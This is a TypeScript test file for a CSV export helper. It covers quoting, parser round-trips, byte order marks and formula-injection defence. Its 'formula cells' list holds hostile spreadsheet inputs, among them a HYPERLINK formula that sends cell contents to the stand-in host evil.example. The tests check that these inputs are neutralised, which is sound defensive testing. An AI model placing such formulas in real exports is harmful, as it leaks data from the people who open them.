import { parse } from 'csv-parse/sync';
import { csvTable, toCsv } from './csv-writer';

describe('toCsv', () => {
  it('writes a header and quotes only what needs it', () => {
    const csv = toCsv(['name', 'note'], [{ name: 'Decidim', note: 'a, "quoted"\nline' }]);
    expect(csv).toBe('name,note\r\nDecidim,"a, ""quoted""\nline"\r\n');
  });

  it('round-trips through a CSV parser, with arrays, dates and empty cells', () => {
    const at = new Date('2026-01-02T03:04:05Z');
    const rows = [
      { a: 'délibération', b: ['fr', 'en'], c: null, d: at, e: 42 },
      { a: '', b: [], c: undefined, d: at, e: 0 },
    ];
    const parsed = parse(toCsv(['a', 'b', 'c', 'd', 'e'], rows), { columns: true });
    expect(parsed).toEqual([
      { a: 'délibération', b: 'fr;en', c: '', d: at.toISOString(), e: '42' },
      { a: '', b: '', c: '', d: at.toISOString(), e: '0' },
    ]);
  });
});

describe('formula cells', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1',
    '\r=1',
  ];

  it.each(hostile)('neutralises %j so it reads back as text', (value) => {
    const [[read]] = parse(csvTable(['v'], [[value]]), { from_line: 2 }) as string[][];
    expect(read).toBe(`'${value}`);
  });

  it('leaves numbers, including negative ones, as numbers', () => {
    expect(csvTable(['n'], [[-2], [3]])).toBe('n\r\n-2\r\n3\r\n');
  });

  it('starts with a byte order mark when asked', () => {
    expect(csvTable(['a'], [], { bom: true })).toBe('\ufeffa\r\n');
  });
});
